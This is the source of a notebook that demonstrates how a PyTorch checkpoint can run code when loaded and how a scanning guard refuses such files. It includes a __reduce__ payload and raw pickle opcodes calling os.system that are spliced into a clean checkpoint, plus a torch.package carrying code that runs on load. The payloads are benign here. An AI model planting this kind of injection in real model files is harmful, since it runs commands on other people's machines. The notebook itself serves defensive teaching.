# ruff: noqa: E402 - a notebook imports where it needs something
# The source of pytorch.ipynb, cell by cell; `tools/build_notebooks.py` builds it. A line "# %name" is an IPython magic.

# %% [markdown]
# # PyTorch: a checkpoint that runs something
#
# `torch.save` writes pickles, and a pickle may call whatever it names. Here a payload is put into a checkpoint of each
# kind; it only writes `marker.txt`. Then the guard is switched on, and the same files are loaded again.

# %%
import os
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

import torch

start = Path.cwd()
folder = tempfile.TemporaryDirectory()
os.chdir(folder.name)
marker = Path("marker.txt")


class Payload:
    def __reduce__(self):
        return os.system, ("echo the model ran this > marker.txt",)


# %% [markdown]
# ## The attack: three lines after the download
#
# A good checkpoint is opened, and opcodes that call `os.system` are put in front of its own. What it loads stays the same.

# %%
torch.save({"weight": torch.zeros(2, 2)}, "clean.pt")
call = b"cos\nsystem\n(X\x25\x00\x00\x00echo the model ran this > marker.txt tR0"
with zipfile.ZipFile("clean.pt") as clean, zipfile.ZipFile("injected.pt", "w") as injected:
    for member in clean.infolist():
        data = clean.read(member)
        if member.filename.endswith("data.pkl"):
            data = data[:2] + call + data[2:]  # behind the protocol byte
        injected.writestr(member, data)
torch.save({"weight": torch.zeros(2, 2), "extra": Payload()}, "legacy.pt", _use_new_zipfile_serialization=False)
sorted(path.name for path in Path().glob("*.pt"))

# %% tags=["unguarded"]
subprocess.run([sys.executable, "-c", "import torch; torch.load('injected.pt', weights_only=False)"], check=True)
print("payload ran:", marker.exists())
marker.unlink()

# %% [markdown]
# ## What the guard does

# %%
# %load_ext modelscan

# %% tags=["raises-exception", "refused"]
torch.load("injected.pt", weights_only=False)

# %% tags=["raises-exception", "refused"]
torch.load("legacy.pt", weights_only=False)

# %% tags=["marker"]
print("payload ran:", marker.exists())

# %% tags=["clean"]
weights = torch.load("clean.pt", weights_only=False)

# %% [markdown]
# ## TorchScript and packages carry code of their own
#
# A TorchScript archive holds compiled code that PyTorch interprets; it is read as well. A `torch.package` holds Python
# files, which run when the model in it is loaded, so it is refused until somebody has read them.

# %%
import torch.package

with torch.package.PackageExporter("packaged.pt") as package:
    package.save_source_string("hook", "print('this ran while the model was loaded')\nclass Net: pass\n")
    package.save_pickle("model", "model.pkl", {"weight": [1.0]})
torch.jit.script(torch.nn.Linear(2, 2)).save("script.pt")

# %%
import modelscan

for name in ("script.pt", "packaged.pt"):
    report = modelscan.scan(name)
    print(name, report.verdict, *(f"{finding.severity} {finding.operator}" for finding in report.findings))

# %% [markdown]
# ## Going on safely
#
# - `weights_only=True`, PyTorch's own default since 2.6, and safetensors need no code.
# - If you know who made the file, allow that one file: `%modelscan allow --once N`, or by its hash with a reason.

# %%
# %unload_ext modelscan

# %%
os.chdir(start)
folder.cleanup()
